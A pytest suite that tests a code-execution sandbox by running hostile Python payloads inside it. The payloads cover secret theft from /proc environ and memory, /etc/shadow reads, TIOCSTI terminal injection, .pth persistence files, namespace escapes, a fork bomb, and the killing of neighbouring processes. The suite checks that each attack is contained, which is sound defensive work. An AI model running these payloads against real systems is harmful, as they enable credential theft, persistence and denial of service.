"""Hostile code against the sandbox, in every tier, as root and as an unprivileged user.

Each (identity, tier) pair gets a fresh application process (`tests/sandbox_app.py`)
holding canaries: an API key in its environment, a secret in its memory, an open file
with a secret, a `.env` beside it, a file in the user's cache, a pseudo-terminal as its
controlling terminal; a stand-in Ollama listens on loopback (TCP and UDP) and logs every
request; an unrelated process of the same user sleeps nearby. The application runs a
batch of attacks, one sandbox run each, and the tests below check the evidence: the
request log, the terminal's input queue, the canary in memory, file contents, the host's
mount table and kernel settings, the process list. "user" is `nobody` through setpriv
when the tests run as root, else the user running them.
"""

from __future__ import annotations

import contextlib
import fcntl
import json
import os
import pty
import shutil
import signal
import socket
import socketserver
import subprocess
import sys
import termios
import threading
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from tools.identity import RUN_ID_BASE, RUN_ID_SPAN
from tools.isolation import interpreter_readable
from tools.processes import MARKER_VAR

REPO = Path(__file__).resolve().parents[1]
APP = REPO / "tests" / "sandbox_app.py"
ROOT = hasattr(os, "geteuid") and os.geteuid() == 0
SETPRIV = shutil.which("setpriv")
SYSTEM_PYTHON = "/usr/bin/python3"


def _has_nobody() -> bool:
    import pwd

    try:
        pwd.getpwnam("nobody")
    except KeyError:
        return False
    return True


# As root, "user" is `nobody` through setpriv, with the system's Python in a venv of its own.
CAN_BE_NOBODY = bool(SETPRIV) and os.path.exists(SYSTEM_PYTHON) and _has_nobody()
IDENTITIES = (["root"] if ROOT else []) + (["user"] if (CAN_BE_NOBODY or not ROOT) else [])
TIERS = ("bwrap", "unshare", "process")
# Every run must be over within its timeout plus this (cleanup included).
CLEANUP_BOUND_S = 1.5
SHORT_TIMEOUT_S = 1.5
APP_PATIENCE_S = 240.0
# How long the background removal of a work dir full of hard links may take.
TRASH_PATIENCE_S = 30.0

pytestmark = pytest.mark.skipif(
    not sys.platform.startswith("linux"), reason="the hostile suite needs Linux"
)


# --- the attacks ---------------------------------------------------------------------------

# Attacks that would damage the machine if they worked (unmounting the host's /proc) check
# first that they are not plainly in the host's mount namespace: a failing sandbox then
# still fails its test, without breaking the machine the tests run on.
HOST_NS = r"""
def host_mount_namespace():
    try:
        return os.readlink("/proc/self/ns/mnt") == os.readlink("/proc/@APP_PID@/ns/mnt")
    except OSError:
        return False
"""

NETWORK = (
    r"""
import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
"""
    + HOST_NS
    + r"""
def attempt(label):
    try:
        s = socket.create_connection(("127.0.0.1", @PORT@), timeout=1)
        s.sendall(b"DELETE /api/delete HTTP/1.0\r\nContent-Length: 0\r\n\r\n")
        print(label, "TCP DELIVERED", s.recv(100))
    except OSError as e:
        print(label, "blocked", e)
    try:
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.sendto(b"UDP " + label.encode(), ("127.0.0.1", @PORT@))
        print(label, "UDP SENT")
    except OSError as e:
        print(label, "udp blocked", e)
attempt("direct")
for path in ("/proc/1/ns/net", "/proc/@APP_PID@/ns/net"):
    try:
        fd = os.open(path, os.O_RDONLY)
        print(path, "setns", libc.setns(fd, 0x40000000), ctypes.get_errno())
        attempt("after setns " + path)
    except OSError as e:
        print(path, "blocked", e)
if not host_mount_namespace():
    print("umount /proc", libc.umount2(b"/proc", 2), ctypes.get_errno())
print("unshare user+net", libc.unshare(0x10000000 | 0x40000000), ctypes.get_errno())
attempt("after umount")
"""
)

ENVIRON = (
    r"""
import ctypes, glob, os
libc = ctypes.CDLL(None, use_errno=True)
"""
    + HOST_NS
    + r"""
if not host_mount_namespace():
    print("umount /proc", libc.umount2(b"/proc", 2), ctypes.get_errno())
    print("mount proc", libc.mount(b"proc", b"/proc", b"proc", 0, None), ctypes.get_errno())
found = []
for path in ["/proc/@APP_PID@/environ", "/proc/1/environ"] + glob.glob("/proc/[0-9]*/environ"):
    try:
        found.append(open(path, "rb").read())
    except OSError:
        pass
print(len(found), b"".join(found))
"""
)

APP_MEMORY = r"""
import ctypes, os
pid, addr, n = @APP_PID@, @CANARY_ADDR@, @CANARY_LEN@
for mode in (os.O_RDWR, os.O_RDONLY):
    try:
        fd = os.open(f"/proc/{pid}/mem", mode)
        print("READ", os.pread(fd, n, addr))
        if mode == os.O_RDWR:
            os.pwrite(fd, b"X" * n, addr)
            print("WROTE")
    except OSError as e:
        print("mem blocked", e)
libc = ctypes.CDLL(None, use_errno=True)
print("ptrace attach", libc.ptrace(16, pid, 0, 0), ctypes.get_errno())
"""

APP_FDS = r"""
import glob, os
for path in glob.glob("/proc/@APP_PID@/fd/*") + ["/proc/@APP_PID@/fd/@SECRET_FD@"]:
    try:
        print(path, os.open(path, os.O_RDONLY) and "opened")
        print(open(path).read())
    except OSError as e:
        print(path, "blocked", e)
try:
    print(os.read(@SECRET_FD@, 100))
except OSError as e:
    print("inherited fd blocked", e)
"""

KILL_OTHERS = r"""
import os, signal
for pid in (@APP_PID@, @SLEEPER_PID@):
    try:
        os.kill(pid, signal.SIGKILL)
        print("KILLED", pid)
    except OSError as e:
        print("kill blocked", pid, e)
"""

TIOCSTI = r"""
import fcntl, os, termios
payload = b"echo @TOKEN@-TTY\n"
# Only the application's own terminal: never the other terminals of the machine.
for path in ["/dev/tty", "/proc/@APP_PID@/fd/0", "@TTY@"]:
    try:
        fd = os.open(path, os.O_RDWR)
    except OSError as e:
        print(path, "open blocked", e)
        continue
    try:
        fcntl.ioctl(fd, termios.TIOCSCTTY, 1)
    except OSError as e:
        print(path, "no controlling tty", e)
    try:
        for ch in payload:
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([ch]))
        print(path, "INJECTED")
    except OSError as e:
        print(path, "ioctl blocked", e)
"""

HOST_WRITES = r"""
import os, sys
targets = @SITE_DIRS@ + [sys.prefix, "@APP_DIR@"]
for d in targets:
    p = os.path.join(d, "orq_pwned_@TOKEN@.pth")
    try:
        with open(p, "w") as f:
            f.write("import os; os.system('touch /tmp/PWNED-@TOKEN@')\n")
        print("WROTE", p)
    except OSError as e:
        print("blocked", p, e)
try:
    with open("@APP_DIR@/.env", "a") as f:
        f.write("TAMPERED\n")
    print("TAMPERED .env")
except OSError as e:
    print(".env blocked", e)
"""

LINKS = r"""
import os
out = []
for how in ("symlink", "link"):
    name = f"via-{how}"
    try:
        getattr(os, how)("@APP_DIR@/.env", name)
    except OSError as e:
        print(how, "blocked", e)
        continue
    try:
        out.append(open(name).read())
        with open(name, "a") as f:
            f.write("TAMPERED\n")
        print(how, "TAMPERED")
    except OSError as e:
        print(how, "use blocked", e)
for path in ("@APP_DIR@/.env", "@APP_DIR@/secret.txt", "@CACHE_FILE@"):
    try:
        out.append(open(path).read())
    except OSError as e:
        print(path, "blocked", e)
print(out)
"""

SECRETS_ON_DISK = r"""
import os
for p in ("/etc/shadow", "/etc/gshadow", "/proc/1/root/etc/shadow"):
    try:
        print(p, repr(open(p).read()[:300]))
    except OSError as e:
        print(p, "blocked", e)
for d in ("/root", "/home", "@HOME@", "@HOME@/.cache", "@APP_DIR@"):
    try:
        print("LISTED", d, os.listdir(d))
    except OSError as e:
        print(d, "blocked", e)
"""

KERNEL_AND_MOUNTS = r"""
import ctypes, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
try:
    current = open("/proc/sys/kernel/core_pattern").read()
    with open("/proc/sys/kernel/core_pattern", "w") as f:
        f.write(current)  # the same value: a write that works is the finding, not the value
    print("CORE_PATTERN WRITTEN")
except OSError as e:
    print("core_pattern blocked", e)
os.makedirs("m", exist_ok=True)
for target in (b"m", b"@MOUNT_TARGET@"):
    print("mount", target, libc.mount(b"tmpfs", target, b"tmpfs", 0, None), ctypes.get_errno())
print("chattr", subprocess.run(["chattr", "+i", "main.py"], capture_output=True).returncode)
"""

PRIVILEGES = r"""
import os
status = dict(line.split(":", 1) for line in open("/proc/self/status").read().splitlines())
print("uid", os.getuid(), os.geteuid(), "gid", os.getgid(), "groups", os.getgroups())
for key in ("CapEff", "CapPrm", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp"):
    print(key, status[key].strip())
try:
    print("ctty", os.open("/dev/tty", os.O_RDWR))
except OSError as e:
    print("no ctty", e.errno)
print("sid", os.getsid(0) == os.getpid() or os.getsid(0))
"""

SEGFAULT = "import ctypes\nprint('before', flush=True)\nctypes.string_at(0)"

FORK_BOMB = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"

DEEP_AND_LOCKED = r"""
import os
top = os.getcwd()
print("CWD", top, flush=True)
for _ in range(3000):
    os.mkdir("d")
    os.chdir("d")
os.chdir(top)
os.makedirs("locked/inner")
open("locked/inner/f", "w").write("x")
os.chmod("locked/inner", 0)
os.chmod("locked", 0)
os.chmod(".", 0o500)
print("built")
"""

HARD_LINK_FLOOD = r"""
import os
print("CWD", os.getcwd(), flush=True)
os.mkdir("d")
src, n = "f0", 0
open(src, "w").close()
while True:
    try:
        os.link(src, f"d/{n}")
        n += 1
    except OSError:
        src = f"f{n}"
        open(src, "w").close()
"""

# Eight processes of 200 MB each, all alive at once, is 1.6 GB: far over 512 MB in total.
MEMORY_TOTAL = r"""
import os, time
r, w = os.pipe()
for _ in range(8):
    if os.fork() == 0:
        block = b"\x01" * (200 * 1024 * 1024)
        os.write(w, b"1")
        time.sleep(60)
        os._exit(0)
held = 0
while held < 8:
    held += len(os.read(r, 8))
print("ALL HELD", flush=True)
time.sleep(60)
"""

# tmpfs is memory: 300 MB in /dev/shm must count toward a 200 MB cap.
TMPFS_MEMORY = r"""
import time
try:
    with open("/dev/shm/orq-residue-big-@TOKEN@", "wb") as f:
        for _ in range(300):
            f.write(b"0" * 1024 * 1024)
    print("WROTE 300 MB", flush=True)
except OSError as e:
    print("blocked", e, flush=True)
time.sleep(3)
"""

RESIDUE = r"""
import os
for d in ("/dev/shm", "/tmp", "/var/tmp"):
    try:
        with open(f"{d}/orq-residue-@TOKEN@", "w") as f:
            f.write("x")
        print("WROTE", d)
    except OSError as e:
        print("blocked", d, e)
"""

# Targets: the application and every sandbox process of it the code can find (never all
# the machine's pipes: a failing sandbox must not scribble over unrelated programs).
SPARE_INJECTION = r"""
import glob, os
payload = b"RUN\nprint('INJECTED-@TOKEN@')\n#"
marker = b"ORQUESTRA_SANDBOX_RUN=@APP_PID@-"
pids = set(@SPARE_PIDS@) | {@APP_PID@}
for entry in glob.glob("/proc/[0-9]*/environ"):
    try:
        if marker in open(entry, "rb").read():
            pids.add(int(entry.split("/")[2]))
    except OSError:
        pass
hits = 0
for pid in pids - {os.getpid()}:
    for fd in glob.glob(f"/proc/{pid}/fd/*"):
        try:
            if not os.readlink(fd).startswith("pipe:"):
                continue
            w = os.open(fd, os.O_WRONLY | os.O_NONBLOCK)
            os.write(w, payload)
            os.close(w)
            hits += 1
        except OSError:
            pass
print("targets", len(pids), "hits", hits)
"""

VICTIM_MEMORY_MB = 700
ATTACKER_MEMORY_MB = 600


def jobs(tier: str) -> list[dict[str, Any]]:
    """The batch one application runs: attacks, each in its own run of `tier`."""
    base: dict[str, Any] = {"isolation": tier, "timeout_s": 5}
    short = {**base, "timeout_s": SHORT_TIMEOUT_S}
    victim = {**base, "memory_mb": VICTIM_MEMORY_MB}
    return [
        {"name": "network", "code": NETWORK, "kwargs": base},
        {"name": "environ", "code": ENVIRON, "kwargs": base},
        {"name": "app_memory", "code": APP_MEMORY, "kwargs": base},
        {"name": "app_fds", "code": APP_FDS, "kwargs": base},
        {"name": "tiocsti", "code": TIOCSTI, "kwargs": base},
        {"name": "host_writes", "code": HOST_WRITES, "kwargs": base},
        {"name": "links", "code": LINKS, "kwargs": base},
        {"name": "secrets_on_disk", "code": SECRETS_ON_DISK, "kwargs": base},
        {"name": "kernel_and_mounts", "code": KERNEL_AND_MOUNTS, "kwargs": base},
        {"name": "segfault", "code": SEGFAULT, "kwargs": base},
        {"name": "privileges", "code": PRIVILEGES, "kwargs": base},
        {"name": "residue", "code": RESIDUE, "kwargs": base},
        {"name": "prime_victim", "code": "print(0)", "kwargs": victim},
        {
            "name": "spare_injection",
            "code": SPARE_INJECTION,
            "kwargs": {**base, "memory_mb": ATTACKER_MEMORY_MB},
            "settle": True,
        },
        {"name": "victim", "code": "print('benign output')", "kwargs": victim},
        {"name": "deep_and_locked", "code": DEEP_AND_LOCKED, "kwargs": {**base, "timeout_s": 10}},
        {"name": "hard_link_flood", "code": HARD_LINK_FLOOD, "kwargs": short},
        {"name": "memory_total", "code": MEMORY_TOTAL, "kwargs": {**base, "memory_mb": 512}},
        {
            "name": "tmpfs_memory",
            "code": TMPFS_MEMORY,
            "kwargs": {**base, "memory_mb": 200, "max_file_mb": 512, "max_disk_mb": 512},
        },
        {"name": "fork_bomb", "code": FORK_BOMB, "kwargs": short},
        {"name": "kill_others", "code": KILL_OTHERS, "kwargs": base},
        {"name": "still_standing", "code": "print('still here')", "kwargs": base},
    ]


# --- the world the application lives in ----------------------------------------------------


class _Handler(socketserver.StreamRequestHandler):
    def handle(self) -> None:
        line = self.rfile.readline(1000).decode(errors="replace").strip()
        self.server.log.append(f"TCP {line}")  # type: ignore[attr-defined]
        self.wfile.write(b"HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\n{}")


class StandInOllama:
    """Listens on a loopback port (TCP and UDP) and logs whatever reaches it."""

    def __init__(self) -> None:
        self.tcp = socketserver.ThreadingTCPServer(("127.0.0.1", 0), _Handler)
        self.tcp.daemon_threads = True
        self.log: list[str] = []
        self.tcp.log = self.log  # type: ignore[attr-defined]
        self.port = self.tcp.server_address[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.port))
        threading.Thread(target=self.tcp.serve_forever, daemon=True).start()
        threading.Thread(target=self._udp, daemon=True).start()

    def _udp(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                data, _ = self.udp.recvfrom(1000)
                self.log.append(f"UDP {data!r}")

    def close(self) -> None:
        self.tcp.shutdown()
        self.udp.close()


@dataclass
class World:
    """One identity's application directory, secrets and neighbours."""

    who: str
    base: Path
    app_dir: Path
    home: Path
    secret: str
    env_text: str
    cache_file: Path
    python: str
    uid: int
    sleeper: subprocess.Popen[bytes] | None = None
    cleanup: list[Path] = field(default_factory=list)

    @property
    def mount_target(self) -> Path:
        return self.base / "mount-target"

    @property
    def app(self) -> Path:
        """The stand-in application, in a copy that this identity can read."""
        return self.base / "src" / "tests" / APP.name

    def as_identity(self) -> list[str]:
        if self.who == "user" and ROOT:
            return [SETPRIV or "setpriv", "--reuid=nobody", "--regid=nogroup", "--clear-groups"]
        return []

    def chown(self, path: Path) -> None:
        if self.who == "user" and ROOT:
            os.chown(path, self.uid, self.uid)


def _nobody() -> int:
    import pwd

    return pwd.getpwnam("nobody").pw_uid


def _make_world(who: str, token: str) -> World:
    base = Path(f"/tmp/orq-hostile-{token}-{who}")
    base.mkdir(mode=0o755)
    os.chmod(base, 0o755)
    uid = _nobody() if who == "user" and ROOT else os.getuid()
    secret = f"s3cr3t-{who}-{uuid.uuid4().hex}"
    world = World(
        who,
        base,
        base / "app",
        base / "home",
        secret,
        f"OPENAI_API_KEY={secret}\n",
        base / "home" / ".cache" / "canary",
        sys.executable,
        uid,
    )
    _copy_application(base / "src")
    for path in (base, world.app_dir, world.home, world.home / ".cache", world.mount_target):
        path.mkdir(exist_ok=True, mode=0o755)
        os.chmod(path, 0o755)
        world.chown(path)
    if who == "root":
        # Root's real cache: the sandbox must hide /root.
        world.cache_file = Path(f"/root/.cache/orq-hostile-{token}")
        world.cache_file.parent.mkdir(parents=True, exist_ok=True)
        world.cleanup.append(world.cache_file)
    # World-readable on purpose: only the sandbox, not file modes, may keep them out.
    mode = 0o644 if who == "root" else 0o600
    for path, text in (
        (world.app_dir / ".env", world.env_text),
        (world.app_dir / "secret.txt", secret),
        (world.cache_file, secret),
    ):
        path.write_text(text)
        os.chmod(path, mode)
        world.chown(path)
    if who == "user":
        venv = base / "venv"
        subprocess.run(
            [
                *world.as_identity(),
                SYSTEM_PYTHON if ROOT else sys.executable,
                "-m",
                "venv",
                "--without-pip",
                str(venv),
            ],
            check=True,
        )
        world.python = str(venv / "bin" / "python")
    world.sleeper = subprocess.Popen(
        [*world.as_identity(), "sleep", f"1000.{token[:6]}"], start_new_session=True
    )
    return world


def _copy_application(target: Path) -> None:
    """The application's code (stdlib-only `tools` and the stand-in app), readable by all.

    The checkout may live where `nobody` cannot read (a clone under /root in CI).
    """
    shutil.copytree(REPO / "tools", target / "tools", ignore=shutil.ignore_patterns("__pycache__"))
    (target / "tests").mkdir()
    shutil.copy(APP, target / "tests" / APP.name)
    for path in [target, *target.rglob("*")]:
        os.chmod(path, 0o755 if path.is_dir() else 0o644)


@dataclass
class Batch:
    """What one application run left as evidence."""

    results: dict[str, dict[str, Any]]
    app_pid: int
    tty_input: bytes
    server_log: list[str]
    mounts_before: set[str]
    mounts_after: set[str]
    sleeper_alive: bool
    leftovers: list[str]
    residue: list[str]
    pth_files: list[str]
    env_text: str
    host_workdirs: list[str]


def _host_mounts() -> set[str]:
    lines = Path("/proc/1/mountinfo").read_text().splitlines()
    return {" ".join(line.split()[3:5]) for line in lines}


def _run_app(world: World, spec: dict[str, Any], tty_slave: int | None) -> subprocess.Popen[bytes]:
    spec_file = world.base / f"spec-{uuid.uuid4().hex[:8]}.json"
    spec_file.write_text(json.dumps(spec))
    world.chown(spec_file)

    def take_terminal() -> None:
        if tty_slave is not None:
            fcntl.ioctl(0, termios.TIOCSCTTY, 0)

    env = {"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": str(world.home), "LANG": "C.UTF-8"}
    if world.who == "root":
        env["HOME"] = "/root"
    return subprocess.Popen(
        [*world.as_identity(), world.python, str(world.app), str(spec_file)],
        cwd=world.app_dir,
        env=env,
        stdin=tty_slave if tty_slave is not None else subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        start_new_session=True,
        preexec_fn=take_terminal,
    )


def sandbox_processes(app_pid: int, token: str) -> list[str]:
    """Live processes of the application's runs: its marker, or the token, in them."""
    found = []
    marker = f"{MARKER_VAR}={app_pid}-".encode()
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            cmdline = Path(f"/proc/{entry}/cmdline").read_bytes()
            state = Path(f"/proc/{entry}/stat").read_text().rsplit(")", 1)[1].split()[0]
            environ = b""
            with contextlib.suppress(OSError):
                environ = Path(f"/proc/{entry}/environ").read_bytes()
        except OSError:
            continue
        if state == "Z":
            continue
        if marker in environ or token.encode() in cmdline:
            found.append(f"{entry}: {cmdline[:120]!r}")
    return found


def _wait_gone(check: Any, seconds: float) -> Any:
    deadline = time.monotonic() + seconds
    while (left := check()) and time.monotonic() < deadline:
        time.sleep(0.05)
    return left


class Suite:
    """Runs (and remembers) each identity's and tier's batch, once per test session."""

    def __init__(self, server: StandInOllama) -> None:
        self.server = server
        self.token = str(uuid.uuid4().int)[:10]  # digits: it is also a `sleep` argument
        self.worlds: dict[str, World] = {}
        self.batches: dict[tuple[str, str], Batch] = {}
        self.tiers: dict[tuple[str, str], bool] = {}
        self.no_world: dict[str, str] = {}

    def world(self, who: str) -> World:
        if who in self.no_world:
            pytest.skip(self.no_world[who])
        if who not in self.worlds:
            try:
                self.worlds[who] = _make_world(who, self.token)
            except subprocess.CalledProcessError as exc:
                shutil.rmtree(f"/tmp/orq-hostile-{self.token}-{who}", ignore_errors=True)
                self.no_world[who] = f"no virtual environment for {who} here ({exc})"
                pytest.skip(self.no_world[who])
        return self.worlds[who]

    def python_for(self, world: World, tier: str) -> str | None:
        """The sandbox's interpreter: root's process tier needs one its uid can read."""
        readable = interpreter_readable(sys.executable)
        if tier == "process" and world.who == "root" and not readable:
            return SYSTEM_PYTHON if os.path.exists(SYSTEM_PYTHON) else None
        return None

    def available(self, who: str, tier: str) -> bool:
        key = (who, tier)
        if key not in self.tiers:
            world = self.world(who)
            app = _run_app(world, {"probe": True, "python": self.python_for(world, tier)}, None)
            out, err = app.communicate(timeout=60)
            assert app.returncode == 0, err.decode()
            self.tiers[key] = tier in json.loads(out)["tiers"]
        return self.tiers[key]

    def batch(self, who: str, tier: str) -> Batch:
        if not self.available(who, tier):
            pytest.skip(f"the {tier} tier is not available to {who} here")
        key = (who, tier)
        if key not in self.batches:
            self.batches[key] = self._run_batch(self.world(who), tier)
        return self.batches[key]

    def _run_batch(self, world: World, tier: str) -> Batch:
        token = f"{self.token}{TIERS.index(tier)}{IDENTITIES.index(world.who)}"
        master, slave = pty.openpty()
        world.chown(Path(os.ttyname(slave)))
        spec = {
            "secret": world.secret,
            "secret_file": str(world.app_dir / "secret.txt"),
            "port": self.server.port,
            "token": token,
            "sleeper_pid": world.sleeper.pid if world.sleeper else 0,
            "cache_file": str(world.cache_file),
            "mount_target": str(world.mount_target),
            "python": self.python_for(world, tier),
            "jobs": jobs(tier),
        }
        mounts_before = _host_mounts()
        self.server.log.clear()
        app = _run_app(world, spec, slave)
        try:
            out, err = app.communicate(timeout=APP_PATIENCE_S)
        finally:
            with contextlib.suppress(ProcessLookupError):
                os.killpg(app.pid, signal.SIGKILL)
        assert app.returncode == 0, err.decode()[-3000:]
        results = {r["name"]: r for r in json.loads(out)}
        tty_input = b""
        os.set_blocking(slave, False)
        with contextlib.suppress(OSError):
            tty_input = os.read(slave, 4096)
        os.close(slave)
        os.close(master)
        leftovers = _wait_gone(lambda: sandbox_processes(app.pid, token), 2.0)
        residue = [
            str(p) for d in ("/dev/shm", "/tmp", "/var/tmp") for p in Path(d).glob(f"*{token}*")
        ]
        venv = Path(world.python).parents[1]
        pth = [
            str(p)
            for d in (venv, *venv.glob("lib/python3*/site-packages"), world.app_dir)
            for p in d.glob("*.pth")
            if token in p.name or d == world.app_dir
        ]
        # Renamed away at once; the detached remover may still be emptying a flood.
        workdirs = _wait_gone(
            lambda: [str(p) for p in Path("/tmp").glob(f"orq-*-{app.pid}-*")], TRASH_PATIENCE_S
        )
        mounts_after = _host_mounts()
        # Whatever a failing sandbox let through must not outlive the test.
        for leftover in [*residue, *pth]:
            Path(leftover).unlink(missing_ok=True)
        if str(world.mount_target) in " ".join(mounts_after):
            subprocess.run(["umount", "-l", str(world.mount_target)], check=False)
        return Batch(
            results=results,
            app_pid=app.pid,
            tty_input=tty_input,
            server_log=list(self.server.log),
            mounts_before=mounts_before,
            mounts_after=mounts_after,
            sleeper_alive=world.sleeper is not None and world.sleeper.poll() is None,
            leftovers=leftovers,
            residue=residue,
            pth_files=pth,
            env_text=(world.app_dir / ".env").read_text(),
            host_workdirs=workdirs,
        )

    def close(self) -> None:
        for world in self.worlds.values():
            if world.sleeper is not None:
                with contextlib.suppress(ProcessLookupError):
                    os.killpg(world.sleeper.pid, signal.SIGKILL)
                world.sleeper.wait()
            for path in world.cleanup:
                path.unlink(missing_ok=True)
            shutil.rmtree(world.base, ignore_errors=True)


@pytest.fixture(scope="module")
def suite() -> Iterator[Suite]:
    server = StandInOllama()
    suite = Suite(server)
    try:
        yield suite
    finally:
        suite.close()
        server.close()


PAIRS = [(who, tier) for who in IDENTITIES for tier in TIERS]
CASES = [pytest.param(pair, id=f"{pair[0]}-{pair[1]}") for pair in PAIRS]


@pytest.fixture(params=CASES)
def batch(request: pytest.FixtureRequest, suite: Suite) -> Batch:
    who, tier = request.param
    return suite.batch(who, tier)


@pytest.fixture
def world(request: pytest.FixtureRequest, suite: Suite, batch: Batch) -> World:
    who = request.node.callspec.params["batch"][0]
    return suite.world(who)


def result(batch: Batch, name: str) -> dict[str, Any]:
    """One job's result, after the checks every run must pass."""
    entry = batch.results[name]
    assert entry["raised"] is None, entry["raised"]
    assert entry["error"] is None, entry
    timeout = 10 if name == "deep_and_locked" else 5
    if name in ("hard_link_flood", "fork_bomb"):
        timeout = SHORT_TIMEOUT_S
    assert entry["duration_s"] <= timeout + CLEANUP_BOUND_S, entry
    assert entry["wall_s"] <= timeout + CLEANUP_BOUND_S, entry
    return entry


# --- the tests -----------------------------------------------------------------------------


def test_the_stand_in_ollama_hears_nothing(batch: Batch) -> None:
    run = result(batch, "network")
    assert batch.server_log == []
    assert "DELIVERED" not in run["stdout"], run["stdout"]


def test_the_applications_environment_stays_secret(batch: Batch, world: World) -> None:
    run = result(batch, "environ")
    assert world.secret not in run["stdout"] + run["stderr"]


def test_the_applications_memory_can_be_neither_read_nor_written(
    batch: Batch, world: World
) -> None:
    run = result(batch, "app_memory")
    assert run["canary_intact"]
    assert all(r["canary_intact"] for r in batch.results.values())
    assert world.secret not in run["stdout"] and "WROTE" not in run["stdout"]


def test_the_applications_open_files_stay_closed(batch: Batch, world: World) -> None:
    run = result(batch, "app_fds")
    assert world.secret not in run["stdout"] + run["stderr"]


def test_no_keystroke_reaches_the_users_terminal(batch: Batch) -> None:
    run = result(batch, "tiocsti")
    assert batch.tty_input == b""
    assert "INJECTED" not in run["stdout"], run["stdout"]


def test_no_host_file_is_written(batch: Batch, world: World) -> None:
    result(batch, "host_writes")
    assert batch.pth_files == []
    assert batch.env_text == world.env_text


def test_links_do_not_reach_the_env_file_or_the_cache(batch: Batch, world: World) -> None:
    run = result(batch, "links")
    assert world.secret not in run["stdout"] + run["stderr"]
    assert "TAMPERED" not in run["stdout"] and batch.env_text == world.env_text


def test_shadow_home_and_the_application_directory_stay_hidden(batch: Batch, world: World) -> None:
    run = result(batch, "secrets_on_disk")
    if ROOT:  # the first entry's name and password field
        assert ":".join(Path("/etc/shadow").read_text().split(":")[:2]) not in run["stdout"]
    listed = [line for line in run["stdout"].splitlines() if line.startswith("LISTED")]
    assert not [line for line in listed if ".env" in line or world.cache_file.name in line]


def test_kernel_settings_and_the_host_mount_table_are_untouched(batch: Batch) -> None:
    run = result(batch, "kernel_and_mounts")
    assert "CORE_PATTERN WRITTEN" not in run["stdout"]
    assert "chattr 0" not in run["stdout"]  # no immutable file: cleanup cannot be defeated
    assert batch.mounts_after == batch.mounts_before


def test_the_code_holds_no_privilege(batch: Batch, world: World) -> None:
    run = result(batch, "privileges")
    fields = dict(line.split(" ", 1) for line in run["stdout"].splitlines())
    uid = int(fields["uid"].split()[0])
    if world.who == "root":
        assert RUN_ID_BASE <= uid < RUN_ID_BASE + RUN_ID_SPAN and "per-run-uid" in run["isolation"]
        assert "memory-cgroup" in run["isolation"]
    else:
        assert "same-uid-as-app" in run["isolation"]
    assert fields["CapEff"] == fields["CapPrm"] == fields["CapAmb"] == "0000000000000000"
    assert fields["NoNewPrivs"] == "1" and fields["Seccomp"] == "2"
    assert "no ctty" in run["stdout"]


def test_a_segfault_is_the_negative_signal(batch: Batch) -> None:
    run = result(batch, "segfault")
    assert run["exit_code"] == -signal.SIGSEGV and run["stdout"] == "before\n"


def test_nothing_is_left_in_shared_temporary_directories(batch: Batch) -> None:
    result(batch, "residue")
    assert batch.residue == []


def test_a_run_cannot_write_into_the_next_runs_spare(batch: Batch) -> None:
    result(batch, "spare_injection")
    victim = result(batch, "victim")
    assert victim["stdout"] == "benign output\n" and victim["exit_code"] == 0


def test_deep_and_locked_trees_are_cleaned_up_in_time(batch: Batch) -> None:
    run = result(batch, "deep_and_locked")
    assert run["exit_code"] == 0 and "built" in run["stdout"]
    workdir = run["stdout"].split()[1]
    if "host-workdir" in run["isolation"]:
        assert not Path(workdir).exists()
    assert batch.host_workdirs == []


def test_a_hard_link_flood_ends_within_the_timeout_and_cleanup_bound(batch: Batch) -> None:
    run = result(batch, "hard_link_flood")
    assert run["timed_out"]
    workdir = run["stdout"].split()[1]
    if "host-workdir" in run["isolation"]:
        assert not Path(workdir).exists()


def test_memory_is_capped_for_all_processes_together(batch: Batch) -> None:
    run = result(batch, "memory_total")
    assert "ALL HELD" not in run["stdout"]
    assert run["limit_exceeded"] == "memory" and not run["timed_out"]


def test_what_the_code_keeps_in_tmpfs_counts_as_its_memory(batch: Batch) -> None:
    run = result(batch, "tmpfs_memory")
    assert "WROTE" not in run["stdout"]
    # Killed for memory, or (an ordinary user's process tier) kept out of /dev/shm.
    assert run["limit_exceeded"] == "memory" or run["stdout"].startswith("blocked")
    assert not run["timed_out"]


def test_a_fork_bomb_kills_nothing_outside_the_run(batch: Batch) -> None:
    run = result(batch, "fork_bomb")
    assert run["timed_out"] and run["exit_code"] != 0
    assert batch.sleeper_alive


def test_the_code_cannot_kill_the_application_or_its_neighbours(batch: Batch) -> None:
    run = result(batch, "kill_others")
    assert "KILLED" not in run["stdout"]
    assert result(batch, "still_standing")["stdout"] == "still here\n"
    assert batch.sleeper_alive


def test_no_process_of_any_run_outlives_the_application(batch: Batch) -> None:
    assert batch.leftovers == []


# --- the application dies mid-run ----------------------------------------------------------

HANGING = r"""
import os, subprocess, time
subprocess.Popen(["sleep", "3600.@TOKEN@"])
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execve("/bin/sleep", ["sleep", "3601.@TOKEN@"], {})
    os._exit(0)
print("CWD", os.getcwd(), flush=True)
time.sleep(3600)
"""


@pytest.mark.parametrize("who,tier", PAIRS, ids=[f"{w}-{t}" for w, t in PAIRS])
def test_killing_the_application_mid_run_leaves_nothing(suite: Suite, who: str, tier: str) -> None:
    if not suite.available(who, tier):
        pytest.skip(f"the {tier} tier is not available to {who} here")
    world = suite.world(who)
    token = f"{suite.token}9{TIERS.index(tier)}{IDENTITIES.index(who)}"
    spec = {
        "secret": world.secret,
        "secret_file": str(world.app_dir / "secret.txt"),
        "port": suite.server.port,
        "token": token,
        "python": suite.python_for(world, tier),
        "jobs": [{"name": "hang", "code": HANGING, "kwargs": {"isolation": tier, "timeout_s": 99}}],
    }
    app = _run_app(world, spec, None)
    try:
        not_started = _wait_gone(
            lambda: not [p for p in sandbox_processes(app.pid, token) if "3601" in p], 60
        )
